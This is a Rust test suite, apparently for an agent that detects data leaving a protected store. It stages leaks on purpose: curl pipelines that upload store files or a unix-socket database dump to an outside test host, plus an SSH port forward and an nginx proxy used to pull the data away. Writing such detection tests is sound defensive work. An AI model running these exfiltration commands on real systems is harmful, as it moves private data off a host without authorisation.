//! Store data that another session passes on before it leaves: over unix sockets, over loopback, from another host.

use std::net::TcpStream;
use std::path::Path;

use jaga_tests::leak::{Leak, nothing_told};
use jaga_tests::net::{HOST_OUTSIDE, LAN, OUT};
use jaga_tests::process::{Running, Unit};
use jaga_tests::wait::until;
use jaga_tests::world::{MB, World};

const ALICE: Leak<'static> = Leak {
    rule: "store-data-leaves",
    store: "ekg",
    session: "login:jagat-alice",
    destination: OUT,
    scopes: &["external"],
};

/// Python's web server for `folder` on 127.0.0.1:`port`, in a unit of its own.
fn service(unit: &Unit, folder: &Path, port: u16) -> Running {
    let running = Running::start(&mut unit.shell(&format!(
        "exec /usr/bin/python3 -m http.server {port} --bind 127.0.0.1 --directory {} >/dev/null 2>&1",
        folder.display()
    )));
    until("the service to listen", 10, || {
        TcpStream::connect(("127.0.0.1", port)).ok()
    });
    running
}

/// A database that has what it answers in memory: 200 MB to whoever connects to `socket`, and reads no file.
fn database(unit: &Unit, socket: &Path) -> Running {
    let script = format!(
        "exec /usr/bin/python3 -c 'import socket\n\
         s = socket.socket(socket.AF_UNIX); s.bind(\"{path}\"); s.listen()\n\
         while True:\n c, _ = s.accept()\n try:\n  for _ in range(200): c.sendall(bytes(1000000))\n except OSError: pass\n c.close()'",
        path = socket.display()
    );
    let running = Running::start(&mut unit.shell(&script));
    until("the database to listen", 10, || {
        std::os::unix::net::UnixStream::connect(socket).ok()
    });
    std::fs::set_permissions(socket, std::os::unix::fs::PermissionsExt::from_mode(0o777))
        .expect("the socket can be opened to all");
    running
}

#[test]
fn a_local_client_of_a_service_on_loopback() {
    let Some(world) = World::new("a_local_client_of_a_service_on_loopback") else {
        return;
    };
    let store = world.store("ekg", 2, 100 * MB);
    let mut agent = world.agent(&[("ekg", &store)], "");
    let unit = Unit::new("jagat-web.service");
    let _service = service(&unit, &store, 9000);
    let script = format!(
        "for f in 0000 0001; do curl -sf http://127.0.0.1:9000/$f.dcm | curl -sfT - http://{OUT}/; done"
    );
    let before = world.net.out.received();
    world.login("jagat-alice", &script).done(60);
    ALICE.told(&mut agent, world.net.out.received() - before);
}

#[test]
fn a_local_dump_of_a_database_over_its_unix_socket() {
    let Some(world) = World::new("a_local_dump_of_a_database_over_its_unix_socket") else {
        return;
    };
    let store = world.store("ekg", 1, MB);
    let unit = Unit::new("jagat-database.service");
    let serves = "serves: [ { store: ekg, unit: jagat-database.service } ]\n";
    let mut agent = world.agent(&[("ekg", &store)], serves);
    let socket = world.folder().join("database.sock");
    let _database = database(&unit, &socket);
    let script = format!(
        "/usr/bin/python3 -c 'import socket, sys\n\
         s = socket.socket(socket.AF_UNIX); s.connect(\"{}\")\n\
         while b := s.recv(1 << 20): sys.stdout.buffer.write(b)' | curl -sfT - http://{OUT}/",
        socket.display()
    );
    let before = world.net.out.received();
    world.login("jagat-alice", &script).done(60);
    ALICE.told(&mut agent, world.net.out.received() - before);
}

#[test]
fn through_ssh_with_a_forwarded_port() {
    let Some(world) = World::new("through_ssh_with_a_forwarded_port") else {
        return;
    };
    let store = world.store("ekg", 2, 100 * MB);
    let mut agent = world.agent(&[("ekg", &store)], "");
    let unit = Unit::new("jagat-web.service");
    let _service = service(&unit, &store, 9000);
    let mut tunnel = world.logins.client(&world.net.out, "ssh");
    tunnel.args([
        "-N",
        "-L",
        "9001:127.0.0.1:9000",
        &format!("jagat-alice@{HOST_OUTSIDE}"),
    ]);
    let _tunnel = Running::start(&mut tunnel);
    until("the tunnel to listen", 10, || {
        let connect = || TcpStream::connect("127.0.0.1:9001").ok();
        world.net.out.inside(connect)
    });
    let url = "http://127.0.0.1:9001/000[0-1].dcm";
    let mut pull = world.net.out.command("curl");
    Running::start(pull.args(["-sf", "-o", "/dev/null", url])).done(60);
    // Not what the other host received in all: it passes the data on to itself.
    ALICE.told(&mut agent, 200 * MB);
}

#[test]
fn through_nginx_before_the_service() {
    let Some(world) = World::new("through_nginx_before_the_service") else {
        return;
    };
    let store = world.store("ekg", 2, 100 * MB);
    let mut agent = world.agent(&[("ekg", &store)], "");
    let web = Unit::new("jagat-web.service");
    let _service = service(&web, &store, 9000);
    let config = world.folder().join("nginx.conf");
    let folder = world.path("nginx");
    let folder = folder.display();
    std::fs::write(
        &config,
        format!(
            "daemon off; pid {folder}/pid; error_log stderr crit; user root; events {{}}\n\
             http {{ access_log off; client_body_temp_path {folder}/b; proxy_temp_path {folder}/p; proxy_buffering off;\n\
             fastcgi_temp_path {folder}/f; uwsgi_temp_path {folder}/u; scgi_temp_path {folder}/s;\n\
             server {{ listen 8080; location / {{ proxy_pass http://127.0.0.1:9000; }} }} }}\n"
        ),
    )
    .unwrap();
    let front = Unit::new("jagat-nginx.service");
    let _nginx = Running::start(&mut front.shell(&format!(
        "exec /usr/sbin/nginx -c {} 2>/dev/null",
        config.display()
    )));
    until("nginx to listen", 10, || {
        TcpStream::connect("127.0.0.1:8080").ok()
    });
    let before = world.net.out.received();
    let url = format!("http://{HOST_OUTSIDE}:8080/000[0-1].dcm");
    let mut pull = world.net.out.command("curl");
    Running::start(pull.args(["-sf", "-o", "/dev/null", &url])).done(60);
    let session = front.session();
    let leak = Leak {
        session: &session,
        ..ALICE
    };
    leak.told(&mut agent, world.net.out.received() - before);
}

#[test]
fn data_of_a_store_on_another_host() {
    let Some(world) = World::new("data_of_a_store_on_another_host") else {
        return;
    };
    let store = world.store("lab", 1, MB);
    let remote =
        format!("  - {{ name: ekg, from: [\"{LAN}:80\"], records: {{ bytes-each: 240 }} }}\n");
    let mut agent = world.agent(&[("lab", &store)], &remote);
    let script = format!("curl -sf http://{LAN}/200000000 | curl -sfT - http://{OUT}/");
    let before = world.net.out.received();
    world.login("jagat-alice", &script).done(60);
    ALICE.told(&mut agent, world.net.out.received() - before);
}

#[test]
fn a_client_that_asks_a_database_for_little_and_sends_much_of_its_own() {
    let name = "a_client_that_asks_a_database_for_little_and_sends_much_of_its_own";
    let Some(world) = World::new(name) else {
        return;
    };
    let store = world.store("ekg", 1, 10_000);
    let mut agent = world.agent(&[("ekg", &store)], "");
    let web = Unit::new("jagat-web.service");
    let _service = service(&web, &store, 9000);
    let client = Unit::new("jagat-client.service");
    let script = format!(
        "(curl -sf http://127.0.0.1:9000/0000.dcm; head -c 2000000000 /dev/zero) | curl -sfT - http://{LAN}/"
    );
    client.run(&script, 120);
    agent.metric_reaches("jaga_sent_bytes_total", &[("scope", "internal")], 1.98e9);
    let exposed = agent.metric(
        "jaga_store_exposed_bytes_total",
        &[("store", "ekg"), ("scope", "internal")],
    );
    assert!(
        exposed.is_some_and(|bytes| (10_000.0..50_000.0).contains(&bytes)),
        "it took 10 kB and an answer's head: {exposed:?}"
    );
    nothing_told(&mut agent);
}
